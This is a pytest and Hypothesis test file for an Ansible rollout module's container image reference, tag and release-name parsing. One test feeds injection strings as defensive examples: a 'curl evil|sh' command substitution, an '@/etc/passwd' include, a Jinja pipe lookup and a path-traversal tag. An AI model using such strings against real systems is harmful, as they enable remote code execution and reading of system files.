from __future__ import annotations

import shlex

import pytest
from ansible.module_utils.rollout.domain import reference
from ansible.module_utils.rollout.errors import RolloutError
from ansible.parsing.splitter import parse_kv
from hypothesis import example, given
from hypothesis import strategies as st

HEX = "0123456789abcdef"
SHA = "abc1234def5678abc1234def5678abc1234def56"
component = st.from_regex(r"[a-z0-9]{1,5}((\.|_|__|-{1,2})[a-z0-9]{1,4}){0,2}", fullmatch=True)
registries = st.one_of(
    st.sampled_from(["localhost", "ghcr.io", "localhost:5000", "127.0.0.1:5000", "[::1]:5000", "a.b-c.de:1"]),
    st.from_regex(r"[a-z]{1,5}\.[a-z]{2,4}(:[0-9]{1,5})?", fullmatch=True),
)
tags = st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,20}", fullmatch=True)
digests = st.text(HEX, min_size=64, max_size=64).map("sha256:{}".format)


@given(
    registries,
    st.lists(component, min_size=1, max_size=3).map("/".join),
    st.none() | tags,
    st.none() | digests,
)
def test_what_is_printed_parses_to_the_same(registry, path, tag, digest):
    one = reference.Reference(registry, path, tag, digest)
    assert reference.parse(str(one)) == one


@given(st.text(max_size=30))
def test_any_text_parses_or_is_refused_by_a_sentence(text):
    try:
        parsed = reference.parse(text)
    except RolloutError as error:
        sentence = str(error)
    else:
        sentence = ""
        assert reference.parse(str(parsed)) == parsed
    assert not sentence or "is not an image reference: expected [registry/]path" in sentence


@pytest.mark.parametrize(
    ("text", "repository", "tag"),
    [
        ("postgres", "docker.io/library/postgres", None),
        ("postgres:17-alpine", "docker.io/library/postgres", "17-alpine"),
        ("kpiteira/ktrdr:v1", "docker.io/kpiteira/ktrdr", "v1"),
        ("localhost/ktrdr", "localhost/ktrdr", None),
        ("localhost:5000/a", "localhost:5000/a", None),
        ("localhost:5000/a:b", "localhost:5000/a", "b"),
        ("ghcr.io/kpiteira/ktrdr-backend:sha-abc1234", "ghcr.io/kpiteira/ktrdr-backend", "sha-abc1234"),
    ],
)
def test_parse_as_docker_does(text, repository, tag):
    parsed = reference.parse(text)
    assert (parsed.repository, parsed.tag) == (repository, tag)


@pytest.mark.parametrize(
    "text",
    [
        "",
        ":",
        "@",
        "/",
        "UPPER",
        "ghcr.io/Big/name",
        "a:b:c",
        "a:",
        "a@sha256:12",
        "a@",
        "a b",
        "a//b",
        "-a/b",
        "ghcr.io/",
        "a:" + "t" * 129,
        "a:.x",
        "ghcr.io:999999/a",
        "a\n",
    ],
)
def test_no_reference_is_refused(text):
    with pytest.raises(RolloutError) as error:
        reference.parse(text)
    assert str(error.value).startswith(f"'{text}' is not an image reference: expected [registry/]path[:tag][@sha256:…]")


@pytest.mark.parametrize(
    ("sha", "tag", "wanted"),
    [
        ("abc1234", None, "sha-abc1234"),
        (SHA, "", "sha-" + SHA),
        (None, "v1.2.3", "v1.2.3"),
        (None, None, "latest"),
        ("", "", "latest"),
    ],
)
def test_wanted_tag(sha, tag, wanted):
    assert reference.wanted_tag(sha, tag) == wanted


@pytest.mark.parametrize(
    ("sha", "tag", "sentence"),
    [
        (
            "abc1234",
            "v1",
            "sha=abc1234 and tag=v1 are both given: give one, sha for a commit or tag for any other tag.",
        ),
        ("abc123", None, "sha 'abc123' is not a commit: expected 7 to 40 characters 0-9 a-f"),
        ("ABC1234", None, "sha 'ABC1234' is not a commit"),
        ("xyz1234", None, "For any other tag use -e tag=…"),
        ("abc1234\n", None, "is not a commit"),
        ("a" * 41, None, "is not a commit"),
        (None, "a/b", "tag 'a/b' is not an image tag: expected letters, digits, '_', '.', '-', at most 128."),
        (None, "-x", "tag '-x' is not an image tag"),
        (None, "x" * 129, "is not an image tag"),
    ],
)
def test_wanted_tag_refusals(sha, tag, sentence):
    with pytest.raises(RolloutError) as error:
        reference.wanted_tag(sha, tag)
    assert sentence in str(error.value)


@pytest.mark.parametrize(
    ("tag", "tags", "found"),
    [
        ("v1", ["v1", "v10"], ["v1"]),
        ("v1", ["v10"], []),
        ("sha-abc1234", ["sha-abc1234", "sha-abc1234d"], ["sha-abc1234"]),
        ("sha-abc1234", ["sha-abc1234d", "sha-abc1234e"], ["sha-abc1234d", "sha-abc1234e"]),
        ("sha-" + SHA, ["sha-" + SHA[:7], "sha-0000000"], ["sha-" + SHA[:7]]),
        ("sha-abc1234", ["sha-", "latest", "sha-abd1234"], []),
        ("sha-abc1234", [], []),
        ("sha-abc1234", ["sha-a", "sha-abc123", "sha-abc1234-dirty", "sha-abc1234/../../etc", "sha-abc1234\n", "sha-"], []),
        ("sha-abc1234-dirty", ["sha-abc1234"], []),
    ],
)
def test_matching_tags(tag, tags, found):
    assert reference.matching_tags(tag, tags) == found


@given(tags, st.lists(tags))
def test_a_tag_that_exists_matches_itself_alone(tag, others):
    assert reference.matching_tags(tag, [*others, tag]) == [tag]


@pytest.mark.parametrize(
    ("text", "tag"), [("v1", True), ("a" * 128, True), ("a" * 129, False), ("v1\n", False), ("", False), (1, False)]
)
def test_what_is_a_tag(text, tag):
    assert reference.is_tag(text) is tag


@pytest.mark.parametrize(
    ("text", "digest"),
    [("sha256:" + "a" * 64, True), ("sha256:" + "A" * 64, False), ("sha512:" + "a" * 128, False), (None, False)],
)
def test_what_is_a_digest(text, digest):
    assert reference.is_digest(text) is digest


def test_nearby_puts_what_looks_alike_first_and_stops():
    tags = ["latest", "sha-abc1230", "sha-abd0000", "v1", "sha-0000000", "sha-abc1234", "sha-abc1234"]
    assert reference.nearby("sha-abc1239", tags, 3) == ["sha-abc1230", "sha-abc1234", "sha-abd0000"]
    assert len(reference.nearby("x", tags)) == 5
    assert reference.nearby("x", []) == []


@pytest.mark.parametrize(
    ("tag", "revision", "name"),
    [
        ("sha-abc1234", SHA, "sha-abc1234"),
        ("sha-abc1234", None, "sha-abc1234"),
        ("sha-abc1234", "not a commit", "sha-abc1234"),
        ("sha-" + SHA, SHA[:7], "sha-" + SHA),
        ("latest", SHA, "sha-abc1234"),
        ("v1.2.3", SHA, "sha-abc1234"),
        ("v1.2.3", None, "v1.2.3"),
        ("v1.2.3", "", "v1.2.3"),
    ],
)
def test_release_name(tag, revision, name):
    assert reference.release_name(tag, revision, "r/a") == name


def test_a_tag_put_on_another_build_is_refused():
    with pytest.raises(RolloutError) as error:
        reference.release_name("sha-abc1234", "0" * 40, "r/a")
    assert "r/a:sha-abc1234 was built from commit 0000000" in str(error.value)
    assert "Build and push sha-abc1234 again." in str(error.value)


def test_latest_without_a_label_is_refused():
    with pytest.raises(RolloutError, match=r"r/a:latest does not say which commit it is.*-e sha=… or -e tag=…"):
        reference.release_name("latest", None, "r/a")


def test_it_is_named_as_it_is_written():
    with pytest.raises(RolloutError, match=r"r/a:latest-cuda does not say which commit it is"):
        reference.release_name("latest", None, "r/a", "latest-cuda")
    with pytest.raises(RolloutError, match=r"r/a:sha-abc1234-cuda was built from commit 0000000"):
        reference.release_name("sha-abc1234", "0" * 40, "r/a", "sha-abc1234-cuda")


@pytest.mark.parametrize(
    ("names", "release"),
    [
        (["v1", "v1"], "v1"),
        (["v1", "v12"], None),
        (["sha-abc1234", f"sha-{SHA}", "sha-abc1234"], "sha-abc1234"),
        ([f"sha-{SHA}", "sha-abc12345"], None),
        (["sha-abc1234", "sha-abc1234-cuda"], None),
    ],
)
def test_names_of_one_release(names, release):
    assert reference.one_release(names) == release


@pytest.mark.parametrize("name", ["docker.io", "ghcr.io", "nas:5000", "localhost", "127.0.0.1:5000", "[::1]:5000", "a.b-c.io"])
def test_names_of_registries(name):
    assert reference.is_registry(name)


@pytest.mark.parametrize("name", ["nas", "https://ghcr.io", "ghcr.io/me", "", "nas:x", "a b.io"])
def test_what_is_no_name_of_a_registry(name):
    assert not reference.is_registry(name)


def typed(choice):
    """The variables that Ansible reads from ``-e CHOICE`` on a shell's command line (`ansible.utils.vars.load_extra_vars`)."""
    _ansible, option, value = shlex.split(f"ansible-playbook -e {choice}")
    assert option == "-e"
    return parse_kv(value)


@pytest.mark.parametrize(
    ("release", "shown"), [("sha-abc1234", "sha=abc1234"), ("v1.2", "tag=v1.2"), ("sha-abc", "tag=sha-abc"), ("sha-", "tag=sha-")]
)
def test_a_release_as_the_operator_types_it(release, shown):
    assert reference.choice(release) == shown


@given(tags | tags.map("sha-{}".format) | st.text(HEX, min_size=7, max_size=40).map("sha-{}".format))
def test_what_is_typed_again_is_the_same_release(release):
    assert reference.wanted_tag(**{"sha": None, "tag": None, **typed(reference.choice(release))}) == release


@given(st.text(min_size=1))
@example("sha-$(curl evil|sh)")
@example("v1 rollout_dir=/ tag='x")
@example("@/etc/passwd")
@example("{{ lookup('pipe', 'id') }}")
@example("--limit")
def test_a_name_that_a_host_gave_runs_nothing_and_sets_nothing_else(release):
    found = typed(reference.choice(release))
    assert found in ({"tag": release}, {"sha": release.removeprefix("sha-")}, {"tag": "…"})
    assert "{{" not in str(found)


@pytest.mark.parametrize(
    ("image", "registry"),
    [
        ("postgres", "docker.io"),
        ("postgres:17", "docker.io"),
        ("postgres@sha256:" + "1" * 64, "docker.io"),
        ("grafana/grafana:11.1.0", "docker.io"),
        ("ghcr.io/immich-app/immich-server:v1", "ghcr.io"),
        ("localhost:5000/web", "localhost:5000"),
        ("localhost/web", "localhost"),
        ("[::1]:5000/web:1", "[::1]:5000"),
    ],
)
def test_the_registry_of_an_image(image, registry):
    assert reference.registry_of_image(image) == registry


@pytest.mark.parametrize("text", ["postgres:17", "library/postgres:17", "docker.io/postgres:17", "docker.io/library/postgres:17"])
def test_an_official_image_is_the_same_whatever_one_calls_it(text):
    assert reference.parse(text) == reference.Reference("docker.io", "library/postgres", "17", None)
